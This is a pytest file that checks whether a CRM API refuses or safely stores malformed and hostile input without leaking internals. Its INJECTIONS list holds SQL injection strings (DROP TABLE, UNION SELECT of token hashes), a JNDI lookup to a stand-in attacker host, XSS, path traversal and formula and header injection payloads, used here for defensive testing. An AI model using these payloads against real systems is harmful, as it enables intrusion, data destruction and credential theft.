"""Whatever is sent, it is refused with a problem, or stored and found as it is; nothing breaks."""

import base64
import json
import logging
from typing import Any

import pytest
from sqlalchemy import text
from starlette.testclient import TestClient

from api import door
from api.main import api
from crm_core.folding import fold
from crm_core.schemas.fields import LARGEST_ID, trimmed
from crm_core.search import terms_of
from crm_core.sorting import OpportunitySort
from tests import forms
from tests.api.calls import CALLS
from tests.api.conftest import HERE, PROTECTIVE, THIS_MACHINE, fields_of, problem_of

DEALS = "/api/opportunities"
JSON = {"Content-Type": "application/json"}
MARK = "Zanzibar"
"""What is looked for in answers that must not repeat what was sent."""

NESTED = 10_000

UNREADABLE = (
    b"[" * NESTED,
    b"[" * NESTED + b"]" * NESTED,
    b'{"name":' * NESTED + b"1" + b"}" * NESTED,
    b'{"name": "Zanzibar", "description": ' + b"[" * NESTED + b"]" * NESTED + b"}",
    b'{"name": "Zanzibar", "owner_id": ' + b"9" * 5_000 + b"}",
)
NOT_JSON = (
    b"{",
    b"Zanzibar",
    b'{"name": "Zanzibar"',
    b"{'name': 'Zanzibar'}",
    b'{"name": "Zan\nzibar"}',
    b"\xff\xfe\xfd",
    b'{"name": "Zanzibar"} {"name": "Zanzibar"}',
)
NO_OBJECT = (b"", b"null", b"[]", b"7", b'"Zanzibar"', b"NaN", b"true", b'[{"name": "Zanzibar"}]')
WRONG_VALUES = {
    "name": ['"\\ud800Zanzibar"', '"\\u0000Zanzibar"', "NaN", "7", "[]", "{}", "true", '"\\u200b"', '""'],
    "description": ['"Zanzibar\\udfff"', '"\\u0000"', "Infinity", '{"Zanzibar": "Zanzibar"}'],
    "source": [json.dumps(MARK * 99)],
    "expected_value": [
        *("NaN", "-Infinity", "1e999999", '"1e999999"', '"Zanzibar"', "-1", "true", '"\\ud800"', '" "'),
        *("[0, [1, 2], 3]", '{"Zanzibar": 1}', "[]", "1e13", '"１２x"', '"NaN"', '"sNaN"'),
    ],
    "probability": ["NaN", "1e999999", "101", "-1", "1.5", "true", '"Zanzibar"', "[]", f"{2**70}"],
    "owner_id": [
        "0",
        "-1",
        f"{2**31}",
        f"{2**63}",
        f"{2**70}",
        "1e999999",
        "NaN",
        "true",
        '"Zanzibar"',
        "1.5",
    ],
    "expected_close_date": [
        *('"Zanzibar"', '"0000-01-01"', '"10000-01-01"', '"2026-02-30"', "1e999999", "NaN"),
        *("0", '"0"', "1767225600", '"1767225600"', '"-1"', "0.0", "true"),
    ],
    "stage": ['"Zanzibar"', "0", "null", '"Closed won"', '""'],
    "request_id": [json.dumps(MARK * 9), '""', "7"],
}
FORBIDDEN = (
    "id",
    "version",
    "created_at",
    "updated_at",
    "closed_at",
    "deleted_at",
    "credited_owner_id",
    "lead_id",
)

INJECTIONS = (
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE opportunities; --",
    '"; DROP TABLE opportunities; --',
    "1; SELECT pg_sleep(9)",
    "' UNION SELECT token_hash FROM api_tokens --",
    "') OR ('a'='a",
    "name; DELETE FROM users",
    "name DESC, (SELECT 1)",
    "name)",
    "-name--",
    "CASE WHEN 1 THEN name END",
    "admin'/*",
    "/* */",
    "%",
    "_",
    "%%",
    "a_b%",
    "\\",
    "\\%",
    "\\\\",
    "%s",
    "%(name)s",
    ":name",
    "?",
    "$1",
    "{0}",
    "{name.__class__}",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "javascript:alert(1)",
    "../../etc/passwd",
    "..%2f..%2fetc",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "a\r\nSet-Cookie: x=1",
    "a\tb",
    "a\x0bb\x1b[2J",
    "\u202egnp.exe",
    "\ufeffname",
    "na\u200bme",
    "Ä\u0308ä",
    "İstanbul",
    "straẞe",
    "ΟΔΟΣ",
    "😀👩\u200d👩\u200d👧",
    "ｎａｍｅ",
    "__proto__",
    "constructor",
    "null",
    "undefined",
    "NaN",
    "true" * 9,
)
DAYS = ("created_from", "created_to", "expected_from", "expected_to", "closed_from", "closed_to")
KEYS = ("owner_id", "team_id", "company_id", "contact_id", "close_reason_id")


def answered(answer: Any, *statuses: int) -> int:
    """Its status, one of these; where it is a refusal, it repeats nothing."""
    assert answer.status_code in statuses, answer.text[:500]
    if answer.status_code >= 400:
        assert MARK not in answer.text
        problem_of(answer, answer.status_code)
    return answer.status_code


def test_a_body_that_can_not_be_read_is_refused(client, world):
    for call in (CALLS["create_opportunity"], CALLS["update_opportunities"], CALLS["update_lead"]):
        path = f"/api{call.path.format(**vars(world))}"
        for body in UNREADABLE:
            answered(client.request(call.method, path, content=body, headers=JSON), 400)
        for body in NOT_JSON:
            answer = client.request(call.method, path, content=body, headers=JSON)
            answered(answer, 400, 422)
            assert "JSON" in answer.json()["detail"]
        for body in NO_OBJECT:
            answer = client.request(call.method, path, content=body, headers=JSON)
            assert fields_of(answer) == [""]
            answered(answer, 422)


def test_no_value_breaks_anything(client, world):
    before = client.get(DEALS).json()

    for field, values in WRONG_VALUES.items():
        for value in values:
            body = f'{{"name": "Roof", "{field}": {value}}}'.encode()
            created = client.post(DEALS, content=body, headers=JSON)
            assert (field, value, fields_of(created)) == (field, value, [field])
            answered(created, 422)
    for value in WRONG_VALUES["name"] + WRONG_VALUES["stage"]:
        body = f'{{"stage": {value}}}'.encode()
        assert fields_of(client.put(f"{DEALS}/{world.deal}", content=body, headers=JSON)) == ["stage"]

    assert client.get(DEALS).json() == before


@pytest.mark.on_sqlite
def test_nobody_sets_what_is_kept_by_itself(client, world):
    for name in ("create_opportunity", "create_lead", "create_company", "create_contact"):
        call = CALLS[name]
        for field in (*FORBIDDEN, MARK, "__class__", "\u0000", ""):
            body = json.dumps({"name": "Roof", field: MARK}).encode()
            answer = client.request(call.method, f"/api{call.path}", content=body, headers=JSON)
            assert fields_of(answer) == [field]
    surrogate = client.post(DEALS, content=b'{"name": "Roof", "\\ud800": "Zanzibar"}', headers=JSON)
    answered(surrogate, 422)


@pytest.mark.on_sqlite
def test_a_problem_names_some_fields_and_counts_the_rest(client):
    answer = client.post(DEALS, json={"name": "Roof"} | {f"x{number}": 1 for number in range(20_000)})

    assert len(fields_of(answer)) == 50
    assert answer.json()["detail"].endswith("; and 19,950 more")


def test_what_looks_like_an_attack_is_stored_and_found_as_it_is(client):
    names = {}
    for name in INJECTIONS:
        created = client.post(DEALS, json={"name": name, "source": name, "description": name * 9})
        told = created.json()
        typed = trimmed(name)
        assert (created.status_code, told["name"], told["source"]) == (201, typed, typed)
        names[told["id"]] = typed

    for name in INJECTIONS:
        found = client.get(DEALS, params={"text": name, "limit": 200, "sort": "created"}).json()
        wanted = [word for term in terms_of(name, "US") for word in term.words]
        assert [row["id"] for row in found["items"]] == [
            key for key, other in names.items() if all(word in fold(other) for word in wanted)
        ], name
    some = list(names.values())[::2]
    found = client.get(DEALS, params={"source": some, "limit": 200, "sort": "created"}).json()
    assert [row["source"] for row in found["items"]] == list(some)


@pytest.mark.on_sqlite
def test_an_attack_is_no_number_and_no_order(client):
    for attack in (*INJECTIONS, "\x00", "\ud7ff", MARK):
        query = dict.fromkeys(
            ("sort", "limit", "as_of", "value_from", "is_open", "stage", "owner_id", "created_to"), attack
        )
        answer = client.get(DEALS, params=query)
        assert sorted(name.removesuffix(".0") for name in fields_of(answer)) == sorted(query)
        assert attack not in answer.text or len(attack) < 5
        assert problem_of(client.get(DEALS, params={"cursor": attack}), 422)


def test_a_key_that_no_database_holds_is_refused(client):
    for key in (0, -1, LARGEST_ID + 1, 2**63, 10**30):
        for field in KEYS:
            assert fields_of(client.get(DEALS, params={field: key})) == [f"{field}.0"]
    for field in KEYS:
        assert client.get(DEALS, params={field: LARGEST_ID}).json()["total"] == 0


def test_the_first_and_the_last_day_are_days(client, world):
    for day in ("0001-01-01", "0001-01-02", "9999-12-31"):
        for field in DAYS:
            answered(client.get(DEALS, params={field: day}), 200, 422)
        for field in ("period_from", "period_to"):
            answered(client.get(f"{DEALS}/stats", params={field: day}), 200, 422)
        for time in ("T00:00:00Z", "T00:00:00+14:00", "T23:59:59.999999-14:00"):
            for path in (DEALS, f"{DEALS}/stats", "/api/leads"):
                answered(client.get(path, params={"as_of": day + time}), 200, 422)
        assert client.post(DEALS, json={"name": "Boat", "expected_close_date": day}).status_code == 201


@pytest.mark.on_sqlite
def test_a_number_is_no_day(client):
    for number in ("0", "1767225600", "-1", "1e3", "0.5"):
        for field in (*DAYS, "as_of"):
            assert fields_of(client.get(DEALS, params={field: number})) == [field]
        for field in ("period_from", "period_to"):
            assert fields_of(client.get(f"{DEALS}/stats", params={field: number})) == [field]


def test_a_value_to_filter_by_is_an_amount(client, world):
    for value in ("NaN", "sNaN", "Infinity", "-Infinity", "1e999999", "-1e999999", "-1", MARK, "", "0x10"):
        answered(client.get(DEALS, params={"value_from": value}), 422)
    for value in ("0", "1e-999999", "0.001", "9999999999999.99"):
        answered(client.get(DEALS, params={"value_to": value}), 200)


def test_a_forged_cursor_breaks_nothing(client, world):
    forged = [None, "", "Zanzibar", "\x00", "\ud800", "NaN", "sNaN", "1e999999", "9" * 1_000, "-1", 1, [], {}]
    forged += ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "2026-01-01T00:00:00", "2026-01-01"]

    for sort in ("name", "next_step", "value", "created", "expected_close", "stage", "probability"):
        assert sort in list(OpportunitySort)
        for value in forged:
            cursor = base64.urlsafe_b64encode(json.dumps([sort, value, 1]).encode()).decode()
            answered(client.get(DEALS, params={"sort": sort, "cursor": cursor}), 200, 422)
    for record_id in (0, -1, 2**31, 2**70, "x", None, 1e999, True, []):
        told = json.dumps(["name", "x", record_id]).encode()
        cursor = base64.urlsafe_b64encode(told).decode()
        answered(client.get(DEALS, params={"sort": "name", "cursor": cursor}), 200, 422)


@pytest.mark.on_sqlite
def test_a_text_of_a_megabyte_is_refused_in_every_field(client, world):
    body = json.dumps(MARK * 120_000).encode()

    for field in ("name", "next_step", "source", "description", "request_id", "stage", "expected_value"):
        answer = client.post(
            DEALS, content=b'{"name": "Roof", "%s": %s}' % (field.encode(), body), headers=JSON
        )
        assert fields_of(answer) == [field]
        answered(answer, 422)
    for field in ("name", "email", "phone", "company_name", "job_title"):
        answer = client.put(
            f"/api/leads/{world.lead}", content=b'{"%s": %s}' % (field.encode(), body), headers=JSON
        )
        assert fields_of(answer) == [field]


@pytest.mark.on_sqlite
def test_an_address_that_is_not_there_says_so(client, world):
    nowhere = client.get("/api/Zanzibar")
    elsewhere = client.patch(f"{DEALS}/{world.deal}", json={})

    assert "/docs" in problem_of(nowhere, 404)["detail"]
    assert MARK not in nowhere.text
    assert "Allow" in problem_of(elsewhere, 405)["detail"]
    assert elsewhere.headers["Allow"] == "GET, PUT, DELETE"
    assert client.head(DEALS).headers["Allow"] == "GET, POST, PATCH"
    assert client.post(f"{DEALS}/stats").headers["Allow"] == "GET"
    assert "GET" in client.post("/docs").headers["Allow"]
    assert client.get(f"{DEALS}/", follow_redirects=False).headers["Location"] == f"{HERE}{DEALS}"


@pytest.mark.on_sqlite
def test_a_parameter_that_means_nothing_is_refused(client, world):
    """Nobody shall believe that ?dry_run=true was heard."""
    for name, call in CALLS.items():
        path = f"/api{call.path.format(**vars(world))}?{MARK}=1&{MARK}=2"
        answer = client.request(call.method, path, **({"json": call.body(world)} if call.body else {}))
        if name == "health":
            assert answer.status_code == 200  # whoever watches it adds what defeats caches
            continue
        assert set(fields_of(answer)) == {MARK}, name
    assert client.get(f"{DEALS}/{world.doomed}").status_code == 200


@pytest.mark.on_sqlite
def test_what_can_mean_one_thing_only_is_said_once(client):
    twice = {"limit": [0, 50], "is_open": [True, False], "sort": ["name", "name"], "stage": ["proposal"] * 2}

    assert fields_of(client.get(DEALS, params=twice)) == ["limit", "is_open", "sort"]
    assert client.get(DEALS, params={"stage": ["proposal", "discovery"]}).status_code == 200


def test_what_breaks_inside_stays_inside(client, database, world, caplog):
    with database.engine.begin() as connection:
        connection.execute(text("DROP TABLE opportunity_versions"))

    with (
        TestClient(api, base_url=HERE, client=THIS_MACHINE, raise_server_exceptions=False) as client,
        caplog.at_level(logging.ERROR),
    ):
        answers = [
            client.get(f"{DEALS}/{world.deal}/history"),
            client.put(f"{DEALS}/{world.deal}", json={"name": MARK}),
        ]

    for answer in answers:
        told = problem_of(answer, 500)
        assert told.keys() == {"type", "title", "status", "detail", "incident"}
        assert told["incident"] in told["detail"]
        assert {name: answer.headers.get(name) for name in PROTECTIVE} == PROTECTIVE
        assert f"Incident {told['incident']}" in caplog.text
        for internal in ("opportunity_versions", "SELECT", "Traceback", ".py", "sqlalchemy", MARK):
            assert internal not in answer.text
    assert MARK not in caplog.text
    assert client.get(f"{DEALS}/{world.deal}").json()["name"] == "Roof"


def test_where_a_database_is_that_is_not_there_goes_to_the_log_alone(client, monkeypatch, caplog):
    monkeypatch.setenv("CRM_DATABASE_URL", "postgresql://crm:Zanzibar@127.0.0.1:1/secret")

    for answer in (client.get(DEALS), client.post(DEALS, json={"name": "Roof"}), client.get("/api/health")):
        assert answer.status_code == 503
        assert "the server's log says why" in answer.json()["detail"]
        assert "127.0.0.1" not in answer.text
        assert "secret" not in answer.text
    assert "127.0.0.1:1/secret can't be reached" in caplog.text
    assert MARK not in caplog.text
    door.database.cache_clear()


def test_a_naughty_string_is_refused_or_stored_and_found_as_it_is(client, shared_data):
    """Some five hundred, or some sixty of them, in an order, in filters, and in a body."""
    strings = json.loads((shared_data / "naughty_strings" / "blns.json").read_text())
    for string in strings[:: forms.either(8, 1)]:
        created = client.post(DEALS, json={"name": string, "description": string})
        answered(client.get(DEALS, params={"sort": string}), 422)
        answered(client.get(DEALS, params={"source": string, "limit": 1}), 200, 422)
        if answered(created, 201, 422) == 201:
            assert (created.json()["name"], created.json()["description"]) == (trimmed(string), string)
            newest = {"text": string, "sort": "-created", "limit": 1}
            assert client.get(DEALS, params=newest).json()["items"] == [created.json()]
